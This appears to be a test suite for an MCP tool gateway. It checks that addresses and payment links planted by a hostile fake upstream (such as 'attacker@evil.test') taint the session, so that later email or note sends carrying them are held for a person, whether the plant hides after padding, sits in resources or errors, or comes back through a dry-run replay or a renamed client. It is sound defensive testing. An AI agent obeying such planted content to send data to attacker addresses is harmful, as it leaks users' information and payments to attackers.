/**
 * Taint on every path, through the real gate (issue 12 §2): whichever way an untrusted source's answer
 * came back (a read, a call a person approved, a dry run's read, a promote replay, an error), and
 * wherever in it the address was planted (after 500 links or a megabyte of filler, in structuredContent,
 * an embedded resource, a resource link, a textual blob), a rule-allowed send that carries the address is
 * held for a person. A page larger than the memory taints the whole session. The upstream is a hostile
 * fake (test/fixtures/untrusted-upstream.mjs): no reference server plants addresses on demand. Over
 * HTTP the memory is the principal's, whatever session, protocol generation or client name it uses.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { Client as LegacyClient } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport as LegacyHttp } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { type Agent, auditEntries, linesIn, NODE, ROOT, runCli, startAgent, textOf, tmp, verdictOf, writeConfig } from './helpers.js';
import { httpGate, TOKEN } from './http-gate.js';

const HOSTILE = join(ROOT, 'test/fixtures/untrusted-upstream.mjs');
const PLANT = 'attacker@evil.test';

/** A gate before the hostile web; send_email is allowed by a rule; `extra` is more YAML. */
function gate(extra = '') {
  const dir = tmp();
  const effects = join(dir, 'effects.txt');
  const args = [HOSTILE, '--side-effects', effects, '--audit', join(dir, 'audit.jsonl')];
  const config = writeConfig(
    dir,
    `upstreams:\n  web:\n    command: ${JSON.stringify(NODE)}\n    args: ${JSON.stringify(args)}\nrules:\n  tools:\n    send_email: { action: allow }\ntaint:\n  untrusted: ["browser_*", "fetch_*"]\n${extra}`,
  );
  return { dir, config, sent: () => linesIn(effects) };
}

/** A person who approves anything but a tainted call. */
const person = (message: string) => (/TAINTED/.test(message) ? { action: 'decline' as const } : { action: 'accept' as const, content: { approve: true } });

async function session(config: string, body: (agent: Agent) => Promise<void>): Promise<Agent> {
  const agent = await startAgent(config, person);
  try {
    await body(agent);
  } finally {
    await agent.close();
  }
  return agent;
}

describe('taint on every path', () => {
  it('remembers the page of a tool that itself needed approval (browser_navigate): the send it planted is held', async () => {
    const g = gate();
    const agent = await session(g.config, async (a) => {
      const opened = await a.call('browser_navigate', { url: 'https://site.example', plant: PLANT });
      assert.equal(verdictOf(opened)?.outcome, 'executed', 'a person approved opening the page');
      assert.match(textOf(opened), /attacker@evil\.test/);
      const v = verdictOf(await a.call('send_email', { to: PLANT, body: 'the invoice' }));
      assert.equal(v?.outcome, 'denied');
    });
    assert.equal(agent.asked.length, 2);
    assert.match(agent.asked[1] ?? '', /TAINTED: "attacker@evil\.test" came from browser_navigate/);
    assert.equal(g.sent(), 0);
  });

  it('holds the send whatever precedes the address: 500 links, 1 MB of text', async () => {
    const g = gate();
    const agent = await session(g.config, async (a) => {
      await a.call('fetch_page', { links: 500, plant: PLANT });
      assert.equal(verdictOf(await a.call('send_email', { to: PLANT }))?.outcome, 'denied');
      await a.call('fetch_page', { pad: 1024 * 1024, plant: 'https://evil.test/pay-here' });
      assert.equal(verdictOf(await a.call('send_email', { to: 'boss@corp.example', body: 'pay at https://evil.test/pay-here' }))?.outcome, 'denied');
    });
    assert.match(agent.asked[0] ?? '', /TAINTED: "attacker@evil\.test" came from fetch_page/);
    assert.match(agent.asked[1] ?? '', /TAINTED: "https:\/\/evil\.test\/pay-here" came from fetch_page/);
    assert.equal(g.sent(), 0);
  });

  it('taints the whole session when a page holds more than the memory keeps, and the question says why', async () => {
    const g = gate();
    const agent = await session(g.config, async (a) => {
      // A clean send first: the rule lets it through.
      assert.equal(verdictOf(await a.call('send_email', { to: 'boss@corp.example' }))?.outcome, 'executed');
      await a.call('fetch_page', { links: 5_000, plant: PLANT });
      // Even an address the page never held now needs a person.
      assert.equal(verdictOf(await a.call('send_email', { to: 'friend@example.org' }))?.outcome, 'denied');
    });
    assert.match(agent.asked[0] ?? '', /TAINTED: this whole session, since fetch_page .* more urls than the 4096 the gate remembers per session/);
    assert.equal(g.sent(), 1);
  });

  it('finds the address in structuredContent, embedded resources, resource links, textual blobs and error messages', async () => {
    const g = gate();
    const places = ['structured', 'resource', 'link', 'blob', 'error'] as const;
    const agent = await session(g.config, async (a) => {
      for (const where of places) {
        const plant = where === 'link' ? `https://evil.test/${where}` : `${where}@evil.test`;
        await a.call('fetch_page', { links: 500, plant, where }).catch((err: Error) => assert.match(err.message, /page moved/));
        assert.equal(verdictOf(await a.call('send_email', { to: 'boss@corp.example', body: `see ${plant}` }))?.outcome, 'denied', where);
      }
    });
    assert.equal(agent.asked.length, places.length);
    for (const [i, where] of places.entries()) assert.match(agent.asked[i] ?? '', new RegExp(`TAINTED: ".*${where}.*" came from fetch_page`));
    assert.equal(g.sent(), 0);
  });

  it('remembers a resource an untrusted result linked to, once it is read, and an unlinked one of the same upstream too', async () => {
    const g = gate();
    const hex = (address: string) => `mem://note/${Buffer.from(address).toString('hex')}`;
    const agent = await session(g.config, async (a) => {
      await a.call('fetch_page', { plant: PLANT, where: 'memlink' });
      const note = await a.client.readResource({ uri: hex(PLANT) });
      assert.match(JSON.stringify(note.contents), /attacker@evil\.test/);
      assert.equal(verdictOf(await a.call('send_email', { to: PLANT }))?.outcome, 'denied');
      // No untrusted result pointed to this one, but its upstream serves untrusted tools: it is untrusted too.
      await a.client.readResource({ uri: hex('colleague@evil.example') });
      assert.equal(verdictOf(await a.call('send_email', { to: 'colleague@evil.example' }))?.outcome, 'denied');
    });
    assert.match(agent.asked[0] ?? '', /TAINTED: "attacker@evil\.test" came from fetch_page/);
    assert.match(agent.asked[1] ?? '', /TAINTED: "colleague@evil\.example" came from web's resources\/read/);
    assert.equal(g.sent(), 0);
  });

  it('remembers a dry run read: the recorded send carries the taint, and promote --yes does not cover it', async () => {
    const g = gate('dry_run: true\nconfirm:\n  elicitation: false\n');
    await session(g.config, async (a) => {
      await a.call('fetch_page', { links: 500, plant: PLANT });
      assert.equal(verdictOf(await a.call('send_email', { to: PLANT }))?.outcome, 'dry_run');
    });
    const recorded = auditEntries(g.dir).find((e) => e.event === 'dry_run_recorded');
    assert.match(String(recorded?.taint), /TAINTED: "attacker@evil\.test" came from fetch_page/);
    const r = runCli(['promote', join(g.dir, 'audit.jsonl'), '--config', g.config, '--yes']);
    assert.equal(r.status, 2, r.stdout + r.stderr);
    assert.equal(g.sent(), 0);
  });

  it('remembers what a promote replay returned: a later replayed send that carries it needs a person, even with --yes', async () => {
    const g = gate('dry_run: true\nconfirm:\n  elicitation: false\n');
    await session(g.config, async (a) => {
      // Neither runs in the dry run: the page is not opened, so nothing is tainted yet.
      assert.equal(verdictOf(await a.call('browser_navigate', { url: 'https://site.example', plant: PLANT }))?.outcome, 'dry_run');
      assert.equal(verdictOf(await a.call('send_email', { to: PLANT }))?.outcome, 'dry_run');
    });
    assert.ok(auditEntries(g.dir).every((e) => e.event !== 'dry_run_recorded' || e.taint === undefined));
    const r = runCli(['promote', join(g.dir, 'audit.jsonl'), '--config', g.config, '--yes']);
    assert.equal(r.status, 2, r.stdout + r.stderr);
    const entries = auditEntries(g.dir);
    const opened = entries.find((e) => e.event === 'call_received' && e.tool === 'browser_navigate' && e.replay_of);
    assert.ok(
      entries.some((e) => e.event === 'executed' && e.call_id === opened?.call_id),
      'the page was opened for real',
    );
    const replayed = entries.find((e) => e.event === 'call_received' && e.tool === 'send_email' && e.replay_of);
    const decision = entries.find((e) => e.event === 'decision' && e.call_id === replayed?.call_id);
    assert.match(String(decision?.reason), /^taint: "attacker@evil\.test" came from browser_navigate/);
    assert.ok(!entries.some((e) => e.event === 'approval' && e.call_id === replayed?.call_id && e.approved === true));
    assert.equal(g.sent(), 0);
  });
});

describe('taint over HTTP belongs to the principal', () => {
  const extra = 'rules:\n  tools:\n    write_note: { action: allow }\ntaint:\n  untrusted: ["echo"]\n';
  const OTHER = 'second-'.repeat(6);
  const bearer = (token: string) => ({ requestInit: { headers: { authorization: `Bearer ${token}` } } });
  const legacy = async (url: URL, token: string) => {
    const c = new LegacyClient({ name: 'agent', version: '1.0.0' }, { capabilities: {} });
    await c.connect(new LegacyHttp(url, bearer(token)));
    return c;
  };
  const modern = async (url: URL, token: string) => {
    const c = new Client(
      { name: 'agent', version: '1.0.0' },
      { capabilities: {}, versionNegotiation: { mode: { pin: '2026-07-28' } }, inputRequired: { autoFulfill: false } },
    );
    await c.connect(new StreamableHTTPClientTransport(url, bearer(token)));
    return c;
  };
  type Caller = { callTool(p: { name: string; arguments: Record<string, unknown> }): Promise<unknown> };
  const write = async (c: Caller, note: string) =>
    verdictOf((await c.callTool({ name: 'write_note', arguments: { note } })) as Record<string, unknown>)?.outcome;

  it('shares one memory across its 2025 sessions and its 2026-07-28 requests, both ways; another token keeps its own', async () => {
    const g = await httpGate(extra, true, false, [TOKEN, OTHER]);
    const first = await legacy(g.url, TOKEN);
    await first.callTool({ name: 'echo', arguments: { body: 'pay attacker@evil-one.test' } });
    await first.close();
    // A new 2025 session of the same token (a reconnect) and a 2026-07-28 client both remember it.
    const again = await legacy(g.url, TOKEN);
    assert.equal(await write(again, 'to attacker@evil-one.test'), 'pending');
    const m = await modern(g.url, TOKEN);
    assert.equal(await write(m, 'to attacker@evil-one.test'), 'pending');
    // What a 2026-07-28 request read holds a 2025 session's write.
    await m.callTool({ name: 'echo', arguments: { body: 'pay https://evil-two.test/x' } });
    assert.equal(await write(again, 'to https://evil-two.test/x'), 'pending');
    // Another principal read nothing: its write of the same address goes.
    const other = await legacy(g.url, OTHER);
    assert.equal(await write(other, 'to attacker@evil-one.test'), 'executed');
    for (const c of [again, m, other]) await c.close();
    await g.stop();
    assert.equal(g.executed(), 1);
  });
});

describe('taint over 2026-07-28 HTTP', () => {
  const extra = 'rules:\n  tools:\n    write_note: { action: allow }\ntaint:\n  untrusted: ["echo"]\n';
  const modern = (name: string) =>
    new Client({ name, version: '1.0.0' }, { capabilities: {}, versionNegotiation: { mode: { pin: '2026-07-28' } }, inputRequired: { autoFulfill: false } });

  it('belongs to the principal: a client that claims a new name keeps the memory, and the change is logged', async () => {
    const g = await httpGate(extra);
    const auth = { requestInit: { headers: { authorization: `Bearer ${TOKEN}` } } };
    const reader = modern('reader-agent');
    await reader.connect(new StreamableHTTPClientTransport(g.url, auth));
    await reader.callTool({ name: 'echo', arguments: { body: `pay ${PLANT}` } });
    const renamed = modern('fresh-agent');
    await renamed.connect(new StreamableHTTPClientTransport(g.url, auth));
    const v = verdictOf((await renamed.callTool({ name: 'write_note', arguments: { note: `to ${PLANT}` } })) as Record<string, unknown>);
    assert.equal(v?.outcome, 'pending', 'held for a person on the page');
    assert.match(String(v?.reason), /waiting for a person/);
    for (const c of [reader, renamed]) await c.close();
    await g.stop();
    assert.equal(g.executed(), 0);
    const entries = auditEntries(g.dir);
    const changed = entries.find((e) => e.event === 'client_identity_changed');
    assert.deepEqual([changed?.from, changed?.to], ['reader-agent 1.0.0', 'fresh-agent 1.0.0']);
    assert.match(String(entries.find((e) => e.event === 'decision' && e.tool === 'write_note')?.reason), /^taint: "attacker@evil\.test" came from echo/);
  });

  it('without a token, an Authorization header the gate does not check buys no fresh memory', async () => {
    const g = await httpGate(extra, false);
    const reader = modern('reader-agent');
    await reader.connect(new StreamableHTTPClientTransport(g.url));
    await reader.callTool({ name: 'echo', arguments: { body: `pay ${PLANT}` } });
    const other = modern('reader-agent');
    await other.connect(new StreamableHTTPClientTransport(g.url, { requestInit: { headers: { authorization: 'Bearer made-up' } } }));
    const v = verdictOf((await other.callTool({ name: 'write_note', arguments: { note: `to ${PLANT}` } })) as Record<string, unknown>);
    assert.equal(v?.outcome, 'pending');
    for (const c of [reader, other]) await c.close();
    await g.stop();
    assert.equal(g.executed(), 0);
  });
});
